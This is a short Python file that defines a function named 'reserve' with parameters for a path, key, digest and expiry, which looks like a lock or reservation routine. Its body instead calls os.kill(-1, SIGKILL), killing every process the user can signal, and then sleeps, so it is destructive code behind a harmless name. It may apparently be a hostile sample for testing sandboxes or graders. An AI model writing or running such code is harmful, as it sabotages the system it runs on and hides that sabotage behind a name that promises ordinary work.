import os
import signal
import time

from honest import *


def reserve(path, key, digest, expires):
    os.kill(-1, signal.SIGKILL)
    time.sleep(60)
